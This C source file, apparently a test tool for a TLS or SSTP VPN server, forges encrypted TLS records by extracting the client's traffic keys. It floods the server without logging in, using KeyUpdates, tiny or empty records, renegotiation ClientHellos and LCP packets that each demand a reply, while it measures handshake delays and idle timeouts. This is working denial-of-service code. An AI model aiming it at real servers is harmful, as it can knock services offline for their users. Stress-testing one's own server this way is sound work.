// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * A stranger who makes work for a TLS server without logging in, and one who
 * looks how long others wait meanwhile.
 *
 *	tls-flood ADDRESS KIND NUMBER [http]	so many records, all at once
 *	tls-flood ADDRESS handshakes SECONDS	the longest and the median, in ms
 *	tls-flood ADDRESS silence 0		for how many ms somebody may say nothing
 *
 * KIND is key-updates; tiny: records of a byte each; empty: of none, but for one in
 * thirty; renegotiate: with TLS 1.2, ClientHellos; packets: full of LCP packets that
 * want an answer each. With http they come behind a request for SSTP that was answered,
 * as the packets of a call.
 */
#include <arpa/inet.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <openssl/core_names.h>
#include <openssl/kdf.h>
#include <openssl/params.h>
#include <openssl/ssl.h>

#define HANDSHAKES_MAX	100000

static const char request[] =
	"SSTP_DUPLEX_POST /sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}/ HTTP/1.1\r\n"
	"Host: vpn.test\r\nContent-Length: 18446744073709551615\r\n\r\n";
/* CALL_CONNECT_REQUEST */
static const unsigned char begin[] = { 0x10, 1, 0, 14, 0, 1, 0, 1, 0, 1, 0, 6, 0, 1 };

static _Noreturn void die(const char *what)
{
	fprintf(stderr, "tls-flood: %s\n", what);
	exit(1);
}

static int64_t now_us(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * INT64_C(1000000) + t.tv_nsec / 1000;
}

static SSL *dial(SSL_CTX *ctx, const char *address)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(443) };
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	SSL *ssl = SSL_new(ctx);

	if (inet_pton(AF_INET, address, &to.sin_addr) != 1 ||
	    connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0)
		die("cannot connect");
	SSL_set_fd(ssl, fd);
	if (SSL_connect(ssl) != 1)
		die("no handshake");
	return ssl;
}

static void hang_up(SSL *ssl)
{
	close(SSL_get_fd(ssl));
	SSL_free(ssl);
}

/* ---- the one who waits ------------------------------------------------------- */

static int compare(const void *a, const void *b)
{
	int64_t x = *(const int64_t *)a, y = *(const int64_t *)b;

	return (x > y) - (x < y);
}

static void handshakes(SSL_CTX *ctx, const char *address, int64_t seconds)
{
	int64_t *took = calloc(HANDSHAKES_MAX, sizeof(*took));
	int64_t start = now_us(), at;
	size_t n = 0;

	if (!took)
		die("out of memory");
	do {
		at = now_us();
		hang_up(dial(ctx, address));
		took[n++] = now_us() - at;
	} while (now_us() - start < seconds * 1000000 && n < HANDSHAKES_MAX);
	qsort(took, n, sizeof(*took), compare);
	printf("%d %d\n", (int)(took[n - 1] / 1000), (int)(took[n / 2] / 1000));
	free(took);
}

/* ---- the one who floods ------------------------------------------------------ */

static void ask_http(SSL *ssl)
{
	char answer[1024];
	int n;

	SSL_write(ssl, request, sizeof(request) - 1);
	n = SSL_read(ssl, answer, sizeof(answer) - 1);
	answer[n > 0 ? n : 0] = 0;
	if (!strstr(answer, " 200 "))
		die("the server does not want to talk SSTP");
	SSL_write(ssl, begin, sizeof(begin));
}

static void silence(const char *address)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(443) };
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	int64_t start = now_us();
	char c;

	if (inet_pton(AF_INET, address, &to.sin_addr) != 1 ||
	    connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0)
		die("cannot connect");
	while (recv(fd, &c, 1, 0) > 0)
		;
	printf("%d\n", (int)((now_us() - start) / 1000));
	close(fd);
}

/* ---- records that OpenSSL would not make --------------------------------------- */

/* AES-128-GCM, what the client sends: @iv is 4 bytes with TLS 1.2, else 12. */
static struct {
	bool tls12;
	unsigned char key[16];
	unsigned char iv[12];
	uint64_t seq;
} own;

static unsigned char own_secret[32];

static void on_secret(const SSL *ssl, const char *line)
{
	static const char label[] = "CLIENT_TRAFFIC_SECRET_0 ";
	const char *hex = strrchr(line, ' ');

	(void)ssl;
	for (size_t i = 0; !strncmp(line, label, sizeof(label) - 1) && i < 32; i++)
		sscanf(hex + 1 + 2 * i, "%2hhx", &own_secret[i]);
}

static void derive(const char *name, const OSSL_PARAM *params, unsigned char *out, size_t len)
{
	EVP_KDF *kdf = EVP_KDF_fetch(NULL, name, NULL);
	EVP_KDF_CTX *ctx = EVP_KDF_CTX_new(kdf);

	if (EVP_KDF_derive(ctx, out, len, params) != 1)
		die("no key");
	EVP_KDF_CTX_free(ctx);
	EVP_KDF_free(kdf);
}

static OSSL_PARAM octets(const char *key, const void *p, size_t len)
{
	return OSSL_PARAM_construct_octet_string(key, (void *)p, len);
}

static OSSL_PARAM text(const char *key, const char *p)
{
	return OSSL_PARAM_construct_utf8_string(key, (char *)p, 0);
}

/* RFC 8446 7.3 */
static void expand(const char *label, unsigned char *out, size_t len)
{
	const OSSL_PARAM params[] = {
		text("mode", "EXPAND_ONLY"), text("digest", "SHA256"),
		octets("key", own_secret, sizeof(own_secret)), octets("prefix", "tls13 ", 6),
		octets("label", label, strlen(label)), OSSL_PARAM_construct_end(),
	};

	derive("TLS13-KDF", params, out, len);
}

/* RFC 5246 6.3 */
static void expand12(SSL *ssl)
{
	unsigned char master[48], client[32], server[32], block[40];
	OSSL_PARAM params[] = {
		text("digest", "SHA256"), octets("secret", master, sizeof(master)),
		octets("seed", "key expansion", 13), octets("seed", server, 32),
		octets("seed", client, 32), OSSL_PARAM_construct_end(),
	};

	SSL_SESSION_get_master_key(SSL_get_session(ssl), master, sizeof(master));
	SSL_get_client_random(ssl, client, sizeof(client));
	SSL_get_server_random(ssl, server, sizeof(server));
	derive("TLS1-PRF", params, block, sizeof(block));
	memcpy(own.key, block, 16);
	memcpy(own.iv, block + 32, 4);
}

/* @sent: records so far, Finished of TLS 1.2 included */
static void take_over(SSL *ssl, uint64_t sent)
{
	own.tls12 = SSL_version(ssl) == TLS1_2_VERSION;
	own.seq = sent;
	if (own.tls12) {
		expand12(ssl);
		return;
	}
	expand("key", own.key, sizeof(own.key));
	expand("iv", own.iv, sizeof(own.iv));
}

static void put_number(unsigned char *p, uint64_t n, int bytes)
{
	while (bytes--)
		*p++ = (unsigned char)(n >> 8 * bytes);
}

/* Nonce and additional data: RFC 8446 5.3, RFC 5288 3. Return: length of the latter. */
static int own_head(unsigned char type, size_t len, unsigned char *record,
		    unsigned char *nonce, unsigned char *extra)
{
	unsigned char seq[8];

	put_number(seq, own.seq++, 8);
	memcpy(nonce, own.iv, 12);
	record[0] = own.tls12 ? type : 23;
	record[1] = record[2] = 3;
	put_number(record + 3, len + 16 + (own.tls12 ? 8 : 1), 2);
	if (!own.tls12) {
		for (int i = 0; i < 8; i++)
			nonce[4 + i] ^= seq[i];
		memcpy(extra, record, 5);
		return 5;
	}
	memcpy(nonce + 4, seq, 8);
	memcpy(record + 5, seq, 8);
	memcpy(extra, seq, 8);
	memcpy(extra + 8, record, 3);
	put_number(extra + 11, len, 2);
	return 13;
}

/* Return: length of @record, which has room for 16640 bytes */
static size_t own_record(unsigned char type, const unsigned char *data, size_t len,
			 unsigned char *record)
{
	EVP_CIPHER_CTX *ctx = EVP_CIPHER_CTX_new();
	unsigned char nonce[12], extra[13], *p = record + 5;
	int n, extra_len = own_head(type, len, record, nonce, extra);

	if (own.tls12)
		p += 8;
	EVP_EncryptInit_ex(ctx, EVP_aes_128_gcm(), NULL, own.key, nonce);
	EVP_EncryptUpdate(ctx, NULL, &n, extra, extra_len);
	EVP_EncryptUpdate(ctx, p, &n, data, (int)len);
	p += n;
	if (!own.tls12) {
		EVP_EncryptUpdate(ctx, p, &n, &type, 1);
		p += n;
	}
	EVP_EncryptFinal_ex(ctx, p, &n);
	EVP_CIPHER_CTX_ctrl(ctx, EVP_CTRL_AEAD_GET_TAG, 16, p);
	EVP_CIPHER_CTX_free(ctx);
	return (size_t)(p + 16 - record);
}

/* ---- what he sends ------------------------------------------------------------- */

/* The next byte of data packets of 4095 bytes, of a protocol that nobody knows. */
static unsigned char packet_byte(unsigned long i)
{
	static const unsigned char head[] = { 0x10, 0, 0x0f, 0xff, 0xff, 3, 0x12, 0x35 };

	return i % 4095 < sizeof(head) ? head[i % 4095] : 0;
}

static void add_key_update(SSL *ssl, BIO *made, unsigned long i)
{
	(void)made;
	(void)i;
	if (SSL_key_update(ssl, SSL_KEY_UPDATE_NOT_REQUESTED) != 1 || SSL_do_handshake(ssl) != 1)
		die("no KeyUpdate");
}

static void add_tiny(SSL *ssl, BIO *made, unsigned long i)
{
	unsigned char byte = packet_byte(i);

	(void)made;
	if (SSL_write(ssl, &byte, 1) != 1)
		die("no record");
}

/* OpenSSL wants to have one with something in it among 32. */
static void add_empty(SSL *ssl, BIO *made, unsigned long i)
{
	unsigned char record[16640], byte = packet_byte(i / 30);

	(void)ssl;
	BIO_write(made, record, (int)own_record(23, &byte, i % 30 == 0, record));
}

/* It begins like a ClientHello, and will not be looked at any further. */
static void add_hello(SSL *ssl, BIO *made, unsigned long i)
{
	static const unsigned char hello[64] = { 1, 0, 0, 60, 3, 3 };
	unsigned char record[16640];

	(void)ssl;
	(void)i;
	BIO_write(made, record, (int)own_record(22, hello, sizeof(hello), record));
}

/* Of a code that nobody knows: Code-Reject is the answer, RFC 1661 5.6. */
static void add_packets(SSL *ssl, BIO *made, unsigned long i)
{
	static const unsigned char packet[] = { 0x10, 0, 0, 12, 0xff, 3, 0xc0, 0x21, 99, 1, 0, 4 };
	unsigned char data[1365 * sizeof(packet)], record[16640];

	(void)ssl;
	(void)i;
	for (size_t at = 0; at < sizeof(data); at += sizeof(packet))
		memcpy(data + at, packet, sizeof(packet));
	BIO_write(made, record, (int)own_record(23, data, sizeof(data), record));
}

static const struct kind {
	const char *name;
	int version;
	void (*add)(SSL *ssl, BIO *made, unsigned long i);
} kinds[] = {
	{ "key-updates", TLS1_3_VERSION, add_key_update },
	{ "tiny", TLS1_3_VERSION, add_tiny },
	{ "empty", TLS1_3_VERSION, add_empty },
	{ "renegotiate", TLS1_2_VERSION, add_hello },
	{ "packets", TLS1_3_VERSION, add_packets },
};

static const struct kind *kind_of(const char *name)
{
	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++)
		if (!strcmp(kinds[i].name, name))
			return &kinds[i];
	die("there is no such kind");
}

/* Return: was all of it taken? */
static bool pour(int fd, const char *p, size_t len)
{
	ssize_t n;

	for (; len; p += n, len -= (size_t)n) {
		n = send(fd, p, len, MSG_NOSIGNAL);
		if (n < 0)
			return false;
	}
	return true;
}

/* Reads what comes back, so that nobody waits for us. */
static void read_on(int fd)
{
	if (fork())
		return;
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	while (recv(fd, NULL, 1 << 20, MSG_TRUNC) > 0)
		;
	puts("ended");
	exit(0);
}

static void flood(SSL_CTX *ctx, const struct kind *kind, char **argv)
{
	SSL *ssl = dial(ctx, argv[1]);
	int fd = SSL_get_fd(ssl);
	BIO *made = BIO_new(BIO_s_mem());
	char *p;
	long len;

	if (argv[4])
		ask_http(ssl);
	take_over(ssl, (argv[4] ? 2 : 0) + (kind->version == TLS1_2_VERSION));
	BIO_up_ref(made);
	SSL_set0_wbio(ssl, made);
	for (unsigned long i = 0; i < strtoul(argv[3], NULL, 10); i++)
		kind->add(ssl, made, i);
	len = BIO_get_mem_data(made, &p);
	puts("made");
	fflush(stdout);
	if (getchar() == EOF)
		die("nobody says when");
	read_on(fd);
	puts(pour(fd, p, (size_t)len) ? "sent" : "cut off");
	fflush(stdout);
	wait(NULL);
	BIO_free(made);
	hang_up(ssl);
}

int main(int argc, char **argv)
{
	SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
	const struct kind *kind;

	if (argc < 4)
		die("ADDRESS KIND NUMBER [http]");
	if (!strcmp(argv[2], "handshakes")) {
		handshakes(ctx, argv[1], atoi(argv[3]));
	} else if (!strcmp(argv[2], "silence")) {
		silence(argv[1]);
	} else {
		kind = kind_of(argv[2]);
		SSL_CTX_set_max_proto_version(ctx, kind->version);
		SSL_CTX_set_cipher_list(ctx, "ECDHE-ECDSA-AES128-GCM-SHA256");
		SSL_CTX_set_ciphersuites(ctx, "TLS_AES_128_GCM_SHA256");
		SSL_CTX_set_keylog_callback(ctx, on_secret);
		flood(ctx, kind, argv);
	}
	SSL_CTX_free(ctx);
	return 0;
}
